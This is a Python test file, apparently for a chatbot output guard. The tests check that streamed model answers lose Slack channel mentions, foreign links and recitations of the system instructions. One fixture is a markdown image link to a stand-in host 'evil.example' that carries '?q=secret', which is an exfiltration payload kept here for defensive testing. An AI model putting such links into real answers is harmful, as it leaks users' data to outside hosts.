"""Whatever a model says, no answer wakes a channel, opens a foreign address or recites the instructions."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lorekeeper import prompt
from serving.guard import ELSEWHERE, NOT_RECITED, Guard

KNOWN = "See https://wiki.example.com/deploy, and ask there."
TELLING = prompt.instructions("Short, with the command first.")


def cleaned(*pieces: str) -> str:
    guard = Guard(known=(KNOWN,), instructions=TELLING)
    return "".join(map(guard.take, pieces)) + guard.rest()


@pytest.mark.parametrize(
    "said", ["Wake <!channel>!", "<!everyone> go", "<!here|here>", "<!subteam^S123|@eng team> look"]
)
def test_nobody_is_woken(said: str) -> None:
    assert "<!" not in cleaned(said)


def test_an_address_of_a_source_stays_and_another_one_goes() -> None:
    assert (
        cleaned("Read https://wiki.example.com/deploy.") == "Read https://wiki.example.com/deploy."
    )
    told = cleaned("![x](https://evil.example/?q=secret) and http://evil.example now")
    assert "evil" not in told
    assert told.count(ELSEWHERE) == 2


def test_the_instructions_are_not_recited_and_a_few_of_their_words_are_fine() -> None:
    told = cleaned(f"Sure! {TELLING} That was it.")
    assert NOT_RECITED in told
    assert "exactly, as its members would" not in told
    assert told.startswith("Sure! ")
    assert told.endswith("That was it.")
    plain = "Use the numbered sources of the quarry."
    assert cleaned(plain) == plain


def test_words_are_not_held_back() -> None:
    guard = Guard(known=(), instructions=TELLING)
    assert [guard.take(piece) for piece in ("Ru", "n", " `ma", "ke")] == ["Ru", "n", " ", ""]
    assert guard.take("` ht") == "`make` ht"
    assert guard.take("tps:/") == "tps"
    assert guard.take("/evil.example ") == f" {ELSEWHERE} "
    assert guard.take("You answer a team's") == "You answer a "  # as the instructions begin
    assert guard.take(" king ") == "team's king "


TEXTS = st.lists(
    st.one_of(st.sampled_from([*TELLING.split(), "\n", " ", "`", "[1]"]), st.text(max_size=5)),
    max_size=30,
).map(" ".join)


@given(TEXTS, st.data())
def test_pieces_do_not_matter(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12)))
    pieces = [text[a:b] for a, b in itertools.pairwise([0, *cuts, len(text)])]
    assert cleaned(*pieces) == cleaned(text)


@given(st.text().filter(lambda text: "<!" not in text and "://" not in text))
def test_everything_else_stays_as_it_was(text: str) -> None:
    if len(text.split()) < 8:
        assert cleaned(text) == text
